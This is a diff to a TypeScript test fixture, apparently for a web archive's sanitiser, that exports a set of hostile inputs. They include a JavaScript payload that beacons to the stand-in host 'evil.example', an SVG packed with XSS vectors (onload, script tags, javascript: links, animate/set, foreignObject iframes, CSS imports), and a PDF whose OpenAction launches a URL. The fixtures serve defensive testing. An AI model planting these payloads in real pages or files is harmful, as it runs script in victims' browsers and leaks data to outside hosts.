@@ -1,15 +1,15 @@
 /** Host that no page of the archive may ever look up, connect to or ask. */
 export const EVIL = 'evil.example';
 
-const OUT = `http://${EVIL}`;
+export const OUT = `http://${EVIL}`;
 /** What runs when it can: it leaves a trace in the window, in the title and on the wire. */
-const RUN = `globalThis.ran=1;document.title='ran';fetch('${OUT}/ran');new Image().src='${OUT}/img';alert(1)`;
-const ATTRIBUTE = RUN.replaceAll("'", '&#39;');
-const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${ATTRIBUTE}"><script>${RUN}</script><image xlink:href="${OUT}/i.png" href="${OUT}/i.png"/><use href="${OUT}/u.svg#a"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${OUT}/f"/><img xmlns="http://www.w3.org/1999/xhtml" src="${OUT}/fo.png" onerror="${ATTRIBUTE}"/></foreignObject><a xlink:href="javascript:globalThis.ran=1"><text y="9">x</text></a><animate attributeName="href" values="javascript:globalThis.ran=1"/><set attributeName="onmouseover" to="globalThis.ran=1"/><feImage href="${OUT}/fe"/><style>@import "${OUT}/svg.css"; svg{background:url(${OUT}/bg)}</style></svg>`;
+export const RUN = `globalThis.ran=1;document.title='ran';fetch('${OUT}/ran');new Image().src='${OUT}/img';alert(1)`;
+export const ATTRIBUTE = RUN.replaceAll("'", '&#39;');
+export const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${ATTRIBUTE}"><script>${RUN}</script><image xlink:href="${OUT}/i.png" href="${OUT}/i.png"/><use href="${OUT}/u.svg#a"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${OUT}/f"/><img xmlns="http://www.w3.org/1999/xhtml" src="${OUT}/fo.png" onerror="${ATTRIBUTE}"/></foreignObject><a xlink:href="javascript:globalThis.ran=1"><text y="9">x</text></a><animate attributeName="href" values="javascript:globalThis.ran=1"/><set attributeName="onmouseover" to="globalThis.ran=1"/><feImage href="${OUT}/fe"/><style>@import "${OUT}/svg.css"; svg{background:url(${OUT}/bg)}</style></svg>`;
 const PDF = `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${OUT}/pdf"\\))>>/AA<</WC<</S/URI/URI(${OUT}/aa)>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`;
 
 /** Text in an encoding of two bytes a character, with its mark. */
-function utf16(text: string, little: boolean): Uint8Array {
+export function utf16(text: string, little: boolean): Uint8Array {
   const bytes = [...`\ufeff${text}`].flatMap((character) => {
     const code = character.charCodeAt(0);
     return little ? [code & 255, code >> 8] : [code >> 8, code & 255];
@@ -17,7 +17,7 @@ function utf16(text: string, little: boolean): Uint8Array {
   return Uint8Array.from(bytes);
 }
 
-const base64 = (text: string): string => Buffer.from(text).toString('base64');
+export const base64 = (text: string): string => Buffer.from(text).toString('base64');
 
 /** A page or file made to harm whoever opens it. */
 export interface Hostile {
@@ -29,7 +29,7 @@ export interface Hostile {
   readonly fields?: readonly (readonly [name: string, value: string])[];
 }
 
-const page = (name: string, html: string): Hostile => ({
+export const page = (name: string, html: string): Hostile => ({
   name,
   body: `<!doctype html><html><head><title>正文</title></head><body><p>正文 before</p>${html}<p>after 正文</p></body></html>`,
 });
